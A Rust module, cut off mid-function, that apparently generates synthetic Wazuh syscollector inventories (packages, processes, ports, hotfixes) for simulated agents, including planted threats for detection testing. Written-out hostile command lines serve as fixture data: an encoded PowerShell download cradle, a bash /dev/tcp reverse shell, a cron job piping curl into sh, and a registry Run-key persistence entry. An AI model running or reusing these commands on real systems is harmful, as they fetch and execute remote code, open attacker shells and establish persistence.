//! Per-agent syscollector inventory, generated on demand from (seed, agent id): packages,
//! processes, ports, network and hotfixes, as manager API items and as
//! `wazuh-states-inventory-*` documents.

use base64::Engine as _;
use chrono::{DateTime, Duration, Utc};
use rand::Rng;
use serde_json::{Map, Value, json};

use super::catalog::{self, Family, Pkg, PkgFormat};
use super::fleet::{ATTACKER_IP, CLUSTER_NAME, NODE_NAME, Profile, Role};
use super::rng::{agent_rng, hex_of, pick};

/// One installed package.
#[derive(Debug, Clone)]
pub(crate) struct Installed {
    pub pkg: &'static Pkg,
    pub name: String,
    pub version: &'static str,
    pub install_time: DateTime<Utc>,
}

/// One running process.
#[derive(Debug, Clone)]
pub(crate) struct Proc {
    pub pid: u32,
    pub ppid: u32,
    pub name: String,
    /// Full command line.
    pub cmd: String,
    pub user: String,
    pub start: DateTime<Utc>,
    pub utime: u64,
    pub stime: u64,
    pub size: u64,
    pub state: &'static str,
}

/// One socket.
#[derive(Debug, Clone)]
pub(crate) struct Port {
    pub protocol: &'static str,
    pub local_ip: String,
    pub local_port: u16,
    pub remote_ip: String,
    pub remote_port: u16,
    pub state: &'static str,
    pub pid: u32,
    pub process: String,
    pub inode: u64,
}

/// Everything syscollector knows about one agent.
#[derive(Debug, Clone)]
pub(crate) struct Inventory {
    pub scan_time: DateTime<Utc>,
    pub packages: Vec<Installed>,
    pub processes: Vec<Proc>,
    pub ports: Vec<Port>,
    pub hotfixes: Vec<&'static str>,
}

/// The command the planted encoded PowerShell runs (before UTF-16LE + base64).
pub const ENCODED_POWERSHELL_SCRIPT: &str =
    "IEX (New-Object Net.WebClient).DownloadString('http://192.168.1.100:8080/stage2.ps1')";

/// The planted PowerShell command line (`-EncodedCommand` of [`ENCODED_POWERSHELL_SCRIPT`]).
pub fn encoded_powershell_cmdline() -> String {
    let utf16: Vec<u8> = ENCODED_POWERSHELL_SCRIPT
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(utf16);
    format!(
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoP -NonI -W Hidden -EncodedCommand {b64}"
    )
}

/// The planted reverse shell.
pub const REVERSE_SHELL_CMDLINE: &str = "bash -i >& /dev/tcp/192.168.1.100/4444 0>&1";
/// The planted cron job's command.
pub const CRON_PERSISTENCE_CMDLINE: &str =
    "/bin/sh -c curl -fsSL http://192.168.1.100:8080/u.sh | sh";
/// The planted Windows Run key.
pub const RUN_KEY_CMDLINE: &str = "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveUpdate /t REG_SZ /d \"C:\\Users\\Public\\Libraries\\onedrive_update.exe\" /f";

/// Whether a package applies to a role.
fn applies(tag: &str, role: Role) -> bool {
    tag.is_empty() || role.tags().contains(&tag)
}

/// Installed packages with their chosen versions (cheap: no processes or ports).
pub(crate) fn packages(seed: u64, p: &Profile, now: DateTime<Utc>) -> Vec<Installed> {
    let mut rng = agent_rng(seed, &p.id, "packages");
    let mut out = Vec::new();
    for pkg in p.os.packages {
        let role = if p.role == Role::Manager {
            Role::App
        } else {
            p.role
        };
        if !applies(pkg.tag, role) {
            continue;
        }
        let old = rng.random_bool(if p.planted.reverse_shell { 0.9 } else { 0.35 });
        let version = if old { pkg.old } else { pkg.new };
        let install_time = p.date_add.min(now) - Duration::days(rng.random_range(0..30))
            + Duration::seconds(rng.random_range(0..86_400));
        out.push(Installed {
            pkg,
            name: catalog::pkg_name(pkg, version),
            version,
            install_time,
        });
    }
    out
}

struct ProcDef {
    name: &'static str,
    cmd: &'static str,
    user: &'static str,
    tag: &'static str,
    listen: &'static [(&'static str, u16)],
}

macro_rules! pd {
    ($n:expr, $c:expr, $u:expr, $t:expr, $l:expr) => {
        ProcDef {
            name: $n,
            cmd: $c,
            user: $u,
            tag: $t,
            listen: $l,
        }
    };
}

static LINUX_PROCS: &[ProcDef] = &[
    pd!("systemd", "/sbin/init", "root", "", &[]),
    pd!(
        "systemd-journal",
        "/lib/systemd/systemd-journald",
        "root",
        "",
        &[]
    ),
    pd!(
        "systemd-udevd",
        "/lib/systemd/systemd-udevd",
        "root",
        "",
        &[]
    ),
    pd!(
        "systemd-network",
        "/lib/systemd/systemd-networkd",
        "systemd-network",
        "",
        &[]
    ),
    pd!(
        "rsyslogd",
        "/usr/sbin/rsyslogd -n -iNONE",
        "syslog",
        "",
        &[]
    ),
    pd!("cron", "/usr/sbin/cron -f -P", "root", "", &[]),
    pd!(
        "sshd",
        "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
        "root",
        "",
        &[("tcp", 22), ("tcp6", 22)]
    ),
    pd!(
        "agetty",
        "/sbin/agetty -o -p -- \\u --noclear tty1 linux",
        "root",
        "",
        &[]
    ),
    pd!(
        "wazuh-execd",
        "/var/ossec/bin/wazuh-execd",
        "root",
        "agent",
        &[]
    ),
    pd!(
        "wazuh-agentd",
        "/var/ossec/bin/wazuh-agentd",
        "wazuh",
        "agent",
        &[]
    ),
    pd!(
        "wazuh-syscheckd",
        "/var/ossec/bin/wazuh-syscheckd",
        "root",
        "agent",
        &[]
    ),
    pd!(
        "wazuh-logcollec",
        "/var/ossec/bin/wazuh-logcollector",
        "root",
        "agent",
        &[]
    ),
    pd!(
        "wazuh-modulesd",
        "/var/ossec/bin/wazuh-modulesd",
        "root",
        "",
        &[]
    ),
    pd!(
        "nginx",
        "nginx: master process /usr/sbin/nginx -g daemon on; master_process on;",
        "root",
        "web",
        &[("tcp", 80), ("tcp", 443)]
    ),
    pd!("nginx", "nginx: worker process", "www-data", "web", &[]),
    pd!("nginx", "nginx: worker process", "www-data", "web", &[]),
    pd!(
        "mysqld",
        "/usr/sbin/mysqld",
        "mysql",
        "db",
        &[("tcp", 3306), ("tcp", 33060)]
    ),
    pd!(
        "master",
        "/usr/lib/postfix/sbin/master -w",
        "root",
        "mail",
        &[("tcp", 25)]
    ),
    pd!("qmgr", "qmgr -l -t unix -u", "postfix", "mail", &[]),
    pd!("containerd", "/usr/bin/containerd", "root", "docker", &[]),
    pd!(
        "dockerd",
        "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
        "root",
        "docker",
        &[]
    ),
    pd!(
        "python3",
        "/usr/bin/python3 /opt/app/server.py --port 8080",
        "app",
        "app",
        &[("tcp", 8080)]
    ),
    pd!(
        "wazuh-analysisd",
        "/var/ossec/bin/wazuh-analysisd",
        "wazuh",
        "manager",
        &[]
    ),
    pd!(
        "wazuh-remoted",
        "/var/ossec/bin/wazuh-remoted",
        "wazuh",
        "manager",
        &[("tcp", 1514)]
    ),
    pd!(
        "wazuh-authd",
        "/var/ossec/bin/wazuh-authd",
        "root",
        "manager",
        &[("tcp", 1515)]
    ),
    pd!(
        "wazuh-db",
        "/var/ossec/bin/wazuh-db",
        "wazuh",
        "manager",
        &[]
    ),
    pd!(
        "wazuh-apid",
        "/var/ossec/framework/python/bin/python3 /var/ossec/api/scripts/wazuh_apid.py",
        "wazuh",
        "manager",
        &[("tcp", 55000)]
    ),
    pd!(
        "filebeat",
        "/usr/share/filebeat/bin/filebeat --environment systemd -c /etc/filebeat/filebeat.yml --path.home /usr/share/filebeat --path.config /etc/filebeat --path.data /var/lib/filebeat --path.logs /var/log/filebeat",
        "root",
        "manager",
        &[]
    ),
    pd!(
        "java",
        "/usr/share/wazuh-indexer/jdk/bin/java -Xshare:auto -Xms1g -Xmx1g -Dopensearch.path.home=/usr/share/wazuh-indexer -cp /usr/share/wazuh-indexer/lib/* org.opensearch.bootstrap.OpenSearch",
        "wazuh-indexer",
        "manager",
        &[("tcp", 9200), ("tcp", 9300)]
    ),
    pd!("bash", "-bash", "admin", "", &[]),
];

static WINDOWS_PROCS: &[ProcDef] = &[
    pd!(
        "System",
        "",
        "SYSTEM",
        "",
        &[("tcp", 445), ("tcp", 5985), ("tcp", 139)]
    ),
    pd!(
        "smss.exe",
        "\\SystemRoot\\System32\\smss.exe",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "csrss.exe",
        "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16",
        "SYSTEM",
        "",
        &[]
    ),
    pd!("wininit.exe", "wininit.exe", "SYSTEM", "", &[]),
    pd!(
        "services.exe",
        "C:\\Windows\\system32\\services.exe",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "lsass.exe",
        "C:\\Windows\\system32\\lsass.exe",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "lsass.exe",
        "C:\\Windows\\system32\\lsass.exe",
        "SYSTEM",
        "dc",
        &[
            ("tcp", 88),
            ("tcp", 389),
            ("tcp", 636),
            ("tcp", 3268),
            ("tcp", 3269),
            ("udp", 88)
        ]
    ),
    pd!(
        "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k RPCSS -p",
        "NETWORK SERVICE",
        "",
        &[("tcp", 135)]
    ),
    pd!(
        "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Winmgmt",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s TermService",
        "NETWORK SERVICE",
        "",
        &[("tcp", 3389), ("udp", 3389)]
    ),
    pd!(
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
        "LOCAL SERVICE",
        "",
        &[]
    ),
    pd!(
        "spoolsv.exe",
        "C:\\Windows\\System32\\spoolsv.exe",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "MsMpEng.exe",
        "\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.24030.9-0\\MsMpEng.exe\"",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "wazuh-agent.exe",
        "\"C:\\Program Files (x86)\\ossec-agent\\wazuh-agent.exe\"",
        "SYSTEM",
        "",
        &[]
    ),
    pd!(
        "dns.exe",
        "C:\\Windows\\system32\\dns.exe",
        "SYSTEM",
        "dc",
        &[("tcp", 53), ("udp", 53)]
    ),
    pd!(
        "dfsrs.exe",
        "C:\\Windows\\system32\\DFSRs.exe",
        "SYSTEM",
        "dc",
        &[]
    ),
    pd!(
        "sqlservr.exe",
        "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
        "NT Service\\MSSQLSERVER",
        "sql",
        &[("tcp", 1433)]
    ),
    pd!(
        "explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        "user",
        "desk",
        &[]
    ),
    pd!(
        "chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"",
        "user",
        "desk",
        &[]
    ),
    pd!(
        "OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
        "user",
        "desk",
        &[]
    ),
    pd!(
        "OneDrive.exe",
        "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background",
        "user",
        "desk",
        &[]
    ),
];

static MAC_PROCS: &[ProcDef] = &[
    pd!("launchd", "/sbin/launchd", "root", "", &[]),
    pd!("logd", "/usr/libexec/logd", "root", "", &[]),
    pd!(
        "mDNSResponder",
        "/usr/sbin/mDNSResponder",
        "_mdnsresponder",
        "",
        &[("udp", 5353)]
    ),
    pd!(
        "WindowServer",
        "/System/Library/PrivateFrameworks/SkyLight.framework/Resources/WindowServer -daemon",
        "_windowserver",
        "",
        &[]
    ),
    pd!(
        "Finder",
        "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
        "user",
        "",
        &[]
    ),
    pd!(
        "wazuh-agentd",
        "/Library/Ossec/bin/wazuh-agentd",
        "wazuh",
        "",
        &[]
    ),
    pd!(
        "wazuh-modulesd",
        "/Library/Ossec/bin/wazuh-modulesd",
        "root",
        "",
        &[]
    ),
    pd!(
        "Google Chrome",
        "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome",
        "user",
        "",
        &[]
    ),
    pd!(
        "Slack",
        "/Applications/Slack.app/Contents/MacOS/Slack",
        "user",
        "",
        &[]
    ),
];

/// Builds the whole inventory of one agent.
pub(crate) fn build(seed: u64, p: &Profile, now: DateTime<Utc>) -> Inventory {
    let mut rng = agent_rng(seed, &p.id, "inventory");
    let scan_time = p.last_seen(now) - Duration::seconds(rng.random_range(60..3600));
    let packages = packages(seed, p, now);
    let boot = scan_time - Duration::hours(rng.random_range(6..24 * 40));
    let deb = p.os.format == PkgFormat::Deb;
    let user = match p.family() {
        Family::Windows => format!(
            "{}\\{}",
            p.domain.split('.').next().unwrap_or("CORP").to_uppercase(),
            person(&mut rng)
        ),
        Family::Macos => person(&mut rng),
        Family::Linux => "admin".into(),
    };

    let defs: &[ProcDef] = match p.family() {
        Family::Linux => LINUX_PROCS,
        Family::Windows => WINDOWS_PROCS,
        Family::Macos => MAC_PROCS,
    };
    let mut processes = Vec::new();
    let mut ports = Vec::new();
    let mut pid: u32 = if p.family() == Family::Windows { 4 } else { 1 };
    let mut inode: u64 = 20_000 + rng.random_range(0..50_000u64);
    let tags = p.role.tags();
    let mut web_worker = 0;
    for d in defs {
        let wanted = match d.tag {
            "" => true,
            "agent" => p.role != Role::Manager,
            t => tags.contains(&t),
        };
        if !wanted {
            continue;
        }
        let mut name = d.name.to_string();
        let mut cmd = d.cmd.to_string();
        if p.family() == Family::Linux && !deb {
            cmd = cmd.replace("/lib/systemd/", "/usr/lib/systemd/");
            if d.name == "cron" {
                name = "crond".into();
                cmd = "/usr/sbin/crond -n".into();
            }
        }
        let mut user_name = match d.user {
            "user" => user.clone(),
            "www-data" if !deb => "nginx".into(),
            "syslog" if !deb => "root".into(),
            u => u.to_string(),
        };
        if p.family() == Family::Linux && d.name == "mysqld" && p.os.platform == "rhel" {
            name = "postgres".into();
            cmd = "/usr/bin/postgres -D /var/lib/pgsql/data".into();
            user_name = "postgres".into();
        }
        let ppid = if pid <= 4 {
            0
        } else if p.family() == Family::Windows {
            4
        } else {
            1
        };
        let start = if d.user == "user" {
            scan_time - Duration::minutes(rng.random_range(5..600))
        } else {
            boot + Duration::seconds(rng.random_range(1..30))
        };
        let this = Proc {
            pid,
            ppid,
            name: name.clone(),
            cmd,
            user: user_name,
            start,
            utime: rng.random_range(0..50_000),
            stime: rng.random_range(0..20_000),
            size: rng.random_range(2_000..400_000),
            state: if pid == 1 || rng.random_bool(0.9) {
                "S"
            } else {
                "R"
            },
        };
        if d.name == "nginx" && d.user == "www-data" {
            web_worker = pid;
        }
        processes.push(this);
        for (proto, port) in d.listen {
            let (protocol, ip) = match *proto {
                "tcp6" => ("tcp6", "::"),
                "udp" => ("udp", "0.0.0.0"),
                _ => ("tcp", "0.0.0.0"),
            };
            inode += 1;
            ports.push(Port {
                protocol,
                local_ip: ip.into(),
                local_port: *port,
                remote_ip: if protocol == "tcp6" {
                    "::".into()
                } else {
                    "0.0.0.0".into()
                },
                remote_port: 0,
                state: if protocol == "udp" { "" } else { "listening" },
                pid,
                process: name.clone(),
                inode,
            });
        }
        pid += if p.family() == Family::Windows {
            rng.random_range(40..900) * 4
        } else {
            rng.random_range(1..400)
        };
    }

    // Ordinary established connections: to the manager and to a few internal peers.
    let agent_port = rng.random_range(40_000..60_000);
    if p.role != Role::Manager {
        let (wpid, wname) = processes
            .iter()
            .find(|x| x.name.starts_with("wazuh-agent"))
            .map(|x| (x.pid, x.name.clone()))
            .unwrap_or((0, String::new()));
        inode += 1;
        ports.push(Port {
            protocol: "tcp",
            local_ip: p.ip.clone(),
            local_port: agent_port,
            remote_ip: "10.10.0.10".into(),
            remote_port: 1514,
            state: "established",
            pid: wpid,
            process: wname,
            inode,
        });
    }
    if p.role == Role::Web || p.role == Role::Db {
        let server_port = if p.role == Role::Web { 443 } else { 3306 };
        for _ in 0..rng.random_range(1..4) {
            inode += 1;
            let proc_ = ports
                .iter()
                .find(|x| x.local_port == server_port)
                .map(|x| (x.pid, x.process.clone()));
            let (ppid_, pname) = proc_.unwrap_or((0, String::new()));
            ports.push(Port {
                protocol: "tcp",
                local_ip: p.ip.clone(),
                local_port: server_port,
                remote_ip: format!(
                    "10.10.{}.{}",
                    rng.random_range(0..4),
                    rng.random_range(2..250)
                ),
                remote_port: rng.random_range(32_768..60_999),
                state: "established",
                pid: ppid_,
                process: pname,
                inode,
            });
        }
    }

    // Planted threats.
    let mut next_pid = pid;
    if p.planted.encoded_powershell && p.family() == Family::Windows {
        let parent = next_pid;
        processes.push(Proc {
            pid: parent,
            ppid: processes
                .iter()
                .find(|x| x.name == "explorer.exe" || x.name == "services.exe")
                .map(|x| x.pid)
                .unwrap_or(4),
            name: "powershell.exe".into(),
            cmd: "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"".into(),
            user: user.clone(),
            start: scan_time - Duration::minutes(95),
            utime: 1_250,
            stime: 310,
            size: 81_000,
            state: "S",
        });
        next_pid += 2_212;
        processes.push(Proc {
            pid: next_pid,
            ppid: parent,
            name: "powershell.exe".into(),
            cmd: encoded_powershell_cmdline(),
            user: user.clone(),
            start: scan_time - Duration::minutes(94),
            utime: 3_400,
            stime: 920,
            size: 96_000,
            state: "S",
        });
        inode += 1;
        ports.push(Port {
            protocol: "tcp",
            local_ip: p.ip.clone(),
            local_port: rng.random_range(49_152..65_000),
            remote_ip: ATTACKER_IP.into(),
            remote_port: 8080,
            state: "established",
            pid: next_pid,
            process: "powershell.exe".into(),
            inode: 0,
        });
        next_pid += 1_108;
    }
    if p.planted.persistence && p.family() == Family::Windows {
        processes.push(Proc {
            pid: next_pid,
            ppid: next_pid.saturating_sub(1_108),
            name: "reg.exe".into(),
            cmd: RUN_KEY_CMDLINE.into(),
            user: user.clone(),
            start: scan_time - Duration::minutes(90),
            utime: 15,
            stime: 15,
            size: 4_500,
            state: "S",
        });
        next_pid += 644;
        processes.push(Proc {
            pid: next_pid,
            ppid: processes
                .iter()
                .find(|x| x.name == "explorer.exe")
                .map(|x| x.pid)
                .unwrap_or(4),
            name: "onedrive_update.exe".into(),
            cmd: "\"C:\\Users\\Public\\Libraries\\onedrive_update.exe\"".into(),
            user: user.clone(),
            start: scan_time - Duration::minutes(88),
            utime: 800,
            stime: 120,
            size: 12_400,
            state: "S",
        });
        ports.push(Port {
            protocol: "tcp",
            local_ip: p.ip.clone(),
            local_port: rng.random_range(49_152..65_000),
            remote_ip: ATTACKER_IP.into(),
            remote_port: 443,
            state: "established",
            pid: next_pid,
            process: "onedrive_update.exe".into(),
            inode: 0,
        });
        next_pid += 200;
    }
    if p.planted.reverse_shell && p.family() == Family::Linux {
        let sh = next_pid;
        let owner = if deb { "www-data" } else { "nginx" };
        processes.push(Proc {
            pid: sh,
            ppid: if web_worker > 0 { web_worker } else { 1 },
            name: "bash".into(),
            cmd: REVERSE_SHELL_CMDLINE.into(),
            user: owner.into(),
            start: scan_time - Duration::minutes(130),
            utime: 12,
            stime: 4,
            size: 2_300,
            state: "S",
        });
        inode += 1;
        ports.push(Port {
            protocol: "tcp",
            local_ip: p.ip.clone(),
            local_port: rng.random_range(40_000..60_000),
            remote_ip: ATTACKER_IP.into(),
            remote_port: 4444,
            state: "established",
            pid: sh,
            process: "bash".into(),
            inode,
        });
        next_pid += 17;
    }
    if p.planted.persistence && p.family() == Family::Linux {
        processes.push(Proc {
            pid: next_pid,
            ppid: processes
                .iter()
                .find(|x| x.name == "cron" || x.name == "crond")
                .map(|x| x.pid)
                .unwrap_or(1),
            name: "sh".into(),
            cmd: CRON_PERSISTENCE_CMDLINE.into(),
            user: "root".into(),
            start: scan_time - Duration::minutes(3),
            utime: 1,
            stime: 1,
            size: 2_600,
            state: "S",
        });
    }
    if p.planted.attacker_connection && p.family() == Family::Linux && !p.planted.reverse_shell {
        // Interactive SSH session from the attacker host.
        let sshd = processes
            .iter()
            .find(|x| x.name == "sshd")
            .map(|x| x.pid)
            .unwrap_or(0);
        inode += 1;
        ports.push(Port {
            protocol: "tcp",
            local_ip: p.ip.clone(),
            local_port: 22,
            remote_ip: ATTACKER_IP.into(),
            remote_port: rng.random_range(40_000..60_000),
            state: "established",
            pid: sshd,
            process: "sshd".into(),
            inode,
        });
    }

    let hotfixes = if p.family() == Family::Windows {
        let mut v: Vec<&'static str> = catalog::HOTFIXES
            .iter()
            .copied()
            .filter(|_| rng.random_bool(0.6))
            .collect();
        if v.is_empty() {
            v.push(catalog::HOTFIXES[0]);
        }
        v
    } else {
        Vec::new()
    };
    let _ = pick(&mut rng, &[0u8]);
    let mut inventory = Inventory {
        scan_time,
        packages,
        processes,
        ports,
        hotfixes,
    };
    super::hostile::plant(p, &mut inventory);
    inventory
}

fn person(rng: &mut impl Rng) -> String {
    let first = *pick(
        rng,
        &[
            "j.smith", "a.garcia", "m.chen", "s.patel", "l.martin", "k.novak", "r.silva", "e.jones",
        ],
    )
    .unwrap_or(&"admin");
    first.to_string()
}

fn iso(t: DateTime<Utc>) -> String {
    t.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

fn scan(inv: &Inventory) -> Value {
    json!({"id": 0, "time": iso(inv.scan_time)})
}

fn mac(p: &Profile) -> String {
    let t = &p.mac_tail;
    let b = |i: usize| t.get(i..i + 2).unwrap_or("00").to_string();
    match p.family() {
        Family::Windows => format!("00:50:56:{}:{}:{}", b(0), b(2), b(4)),
        _ => format!("02:42:ac:{}:{}:{}", b(0), b(2), b(4)),
    }
}

fn iface(p: &Profile) -> &'static str {
    match (p.family(), p.os.platform) {
        (Family::Windows, _) => "Ethernet0",
        (Family::Macos, _) => "en0",
        (_, "amzn") => "eth0",
        (_, "ubuntu") => "ens160",
        _ => "eth0",
    }
}

fn netmask_of(ip: &str) -> (&'static str, String) {
    let parts: Vec<&str> = ip.split('.').collect();
    if parts.len() == 4 {
        (
            "255.255.255.0",
            format!("{}.{}.{}.255", parts[0], parts[1], parts[2]),
        )
    } else {
        ("255.255.255.0", "0.0.0.0".into())
    }
}

fn gateway_of(ip: &str) -> String {
    let parts: Vec<&str> = ip.split('.').collect();
    if parts.len() == 4 {
        format!("{}.{}.{}.1", parts[0], parts[1], parts[2])
    } else {
        "0.0.0.0".into()
    }
}

/// `GET /syscollector/{agent_id}/os` item.
pub(crate) fn os_item(p: &Profile, inv: &Inventory) -> Value {
    let os = p.os;
    match p.family() {
        Family::Windows => json!({
            "os": {
                "build": os.build,
                "display_version": os.display_version,
                "major": os.major,
                "minor": os.minor,
                "name": os.name,
                "version": os.version,
            },
            "scan": scan(inv),
            "architecture": os.arch,
            "hostname": p.name,
            "os_release": os.display_version,
            "agent_id": p.id,
        }),
        _ => {
            let mut o = Map::new();
            if !os.codename.is_empty() {
                let code = os.codename.split(' ').next().unwrap_or("").to_lowercase();
                o.insert("codename".into(), json!(code));
            }
            o.insert("major".into(), json!(os.major));
            if !os.minor.is_empty() {
                o.insert("minor".into(), json!(os.minor));
            }
            o.insert("name".into(), json!(os.name));
            o.insert("platform".into(), json!(os.platform));
            let version = if os.codename.is_empty() || p.family() == Family::Macos {
                os.version.to_string()
            } else {
                format!("{} ({})", os.version, os.codename)
            };
            o.insert("version".into(), json!(version));
            json!({
                "os": o,
                "scan": scan(inv),
                "sysname": if p.family() == Family::Macos { "Darwin" } else { "Linux" },
                "release": os.release,
                "version": os.kernel_version,
                "architecture": os.arch,
                "hostname": p.name,
                "agent_id": p.id,
            })
        }
    }
}

/// `GET /syscollector/{agent_id}/hardware` item.
pub(crate) fn hardware_item(seed: u64, p: &Profile, inv: &Inventory) -> Value {
    let mut rng = agent_rng(seed, &p.id, "hardware");
    let (cpu, mhz, cores) = match p.family() {
        Family::Macos if p.os.arch == "arm64" => ("Apple M1 Pro", 2400, 10),
        Family::Macos => ("Intel(R) Core(TM) i7-9750H CPU @ 2.60GHz", 2600, 12),
        _ if p.role.is_server() => {
            let c = *pick(&mut rng, &[2, 4, 8, 16]).unwrap_or(&4);
            ("Intel(R) Xeon(R) Gold 6248R CPU @ 3.00GHz", 2993, c)
        }
        _ => ("11th Gen Intel(R) Core(TM) i7-1185G7 @ 3.00GHz", 2995, 8),
    };
    let total: u64 =
        *pick(&mut rng, &[4_026_736u64, 8_148_404, 16_375_876, 32_852_420]).unwrap_or(&8_148_404);
    let usage: u64 = rng.random_range(20..90);
    let free = total * (100 - usage) / 100;
    json!({
        "cpu": {"cores": cores, "mhz": mhz, "name": cpu},
        "ram": {"free": free, "total": total, "usage": usage},
        "scan": scan(inv),
        "board_serial": format!("VMware-{}", hex_of(&format!("board:{seed}:{}", p.id), 16)),
        "agent_id": p.id,
    })
}

/// `GET /syscollector/{agent_id}/packages` items.
pub(crate) fn package_items(p: &Profile, inv: &Inventory) -> Vec<Value> {
    inv.packages
        .iter()
        .map(|i| {
            let pk = i.pkg;
            let mut m = Map::new();
            m.insert("scan".into(), scan(inv));
            match p.os.format {
                PkgFormat::Deb => {
                    if pk.section == "libs" {
                        m.insert("multiarch".into(), json!("same"));
                    } else if pk.arch == "all" {
                        m.insert("multiarch".into(), json!("foreign"));
                    }
                    m.insert("description".into(), json!(pk.description));
                    m.insert("source".into(), json!(pk.source));
                    m.insert("name".into(), json!(i.name));
                    m.insert("architecture".into(), json!(pk.arch));
                    m.insert("vendor".into(), json!(pk.vendor));
                    m.insert("size".into(), json!(pk.size));
                    m.insert("format".into(), json!("deb"));
                    m.insert("version".into(), json!(i.version));
                    m.insert("section".into(), json!(pk.section));
                    let prio = if matches!(pk.name, "bash" | "coreutils" | "libc6" | "tar") {
                        "required"
                    } else {
                        "optional"
                    };
                    m.insert("priority".into(), json!(prio));
                    m.insert("agent_id".into(), json!(p.id));
                    m.insert("location".into(), json!(""));
                    m.insert("install_time".into(), json!(""));
                }
                PkgFormat::Rpm => {
                    m.insert("description".into(), json!(pk.description));
                    m.insert("source".into(), json!(pk.source));
                    m.insert("name".into(), json!(i.name));
                    m.insert("architecture".into(), json!(pk.arch));
                    m.insert("vendor".into(), json!(pk.vendor));
                    m.insert("size".into(), json!(pk.size));
                    m.insert("format".into(), json!("rpm"));
                    m.insert("version".into(), json!(i.version));
                    m.insert("section".into(), json!(pk.section));
                    m.insert("agent_id".into(), json!(p.id));
                    m.insert("location".into(), json!(""));
                    m.insert("install_time".into(), json!(iso(i.install_time)));
                }
                PkgFormat::Win | PkgFormat::Pkg => {
                    m.insert("name".into(), json!(i.name));
                    if !pk.arch.is_empty() {
                        m.insert("architecture".into(), json!(pk.arch));
                    }
                    if !pk.vendor.is_empty() {
                        m.insert("vendor".into(), json!(pk.vendor));
                    }
                    m.insert("format".into(), json!(p.os.format.as_str()));
                    m.insert("version".into(), json!(i.version));
                    m.insert("agent_id".into(), json!(p.id));
                    m.insert("location".into(), json!(pk.section));
                    m.insert("install_time".into(), json!(iso(i.install_time)));
                }
            }
            Value::Object(m)
        })
        .collect()
}

/// `GET /syscollector/{agent_id}/processes` items.
pub(crate) fn process_items(p: &Profile, inv: &Inventory) -> Vec<Value> {
    inv.processes
        .iter()
        .map(|x| {
            if p.family() == Family::Windows {
                json!({
                    "scan": scan(inv),
                    "name": x.name,
                    "cmd": x.cmd,
                    "pid": x.pid.to_string(),
                    "ppid": x.ppid,
                    "priority": 8,
                    "nlwp": 1 + x.size % 40,
                    "size": x.size * 1024,
                    "vm_size": x.size * 4096,
                    "session": if x.user.contains('\\') { 1 } else { 0 },
                    "stime": x.stime,
                    "utime": x.utime,
                    "agent_id": p.id,
                })
            } else {
                let (cmd, argvs) = split_cmd(&x.cmd);
                let group = if x.user == "www-data" || x.user == "admin" {
                    x.user.clone()
                } else if x.user == "root" {
                    "root".into()
                } else {
                    x.user.clone()
                };
                json!({
                    "scan": scan(inv),
                    "nice": 0,
                    "name": x.name,
                    "resident": x.size / 4,
                    "egroup": group,
                    "sgroup": group,
                    "euser": x.user,
                    "size": x.size / 2,
                    "tgid": x.pid,
                    "share": x.size / 8,
                    "rgroup": group,
                    "argvs": argvs,
                    "start_time": x.start.timestamp(),
                    "stime": x.stime,
                    "vm_size": x.size,
                    "priority": 20,
                    "utime": x.utime,
                    "nlwp": 1,
                    "session": x.pid,
                    "processor": x.pid % 4,
                    "pgrp": x.pid,
                    "suser": x.user,
                    "state": x.state,
                    "ppid": x.ppid,
                    "cmd": cmd,
                    "tty": 0,
                    "pid": x.pid.to_string(),
                    "fgroup": group,
                    "ruser": x.user,
                    "agent_id": p.id,
                })
            }
        })
        .collect()
}

/// Splits a Linux command line into `cmd` and `argvs` the way syscollector reports them.
fn split_cmd(full: &str) -> (String, String) {
    match full.split_once(' ') {
        Some((c, rest))
            if !full.contains(':') || full.starts_with('/') || full.starts_with("bash") =>
        {
            (c.to_string(), rest.to_string())
        }
        _ => (full.to_string(), String::new()),
    }
}

/// `GET /syscollector/{agent_id}/ports` items.
pub(crate) fn port_items(p: &Profile, inv: &Inventory) -> Vec<Value> {
    inv.ports
        .iter()
        .map(|x| {
            let mut m = Map::new();
            m.insert(
                "local".into(),
                json!({"ip": x.local_ip, "port": x.local_port}),
            );
            m.insert(
                "remote".into(),
                json!({"ip": x.remote_ip, "port": x.remote_port}),
            );
            m.insert("scan".into(), scan(inv));
            if !x.state.is_empty() {
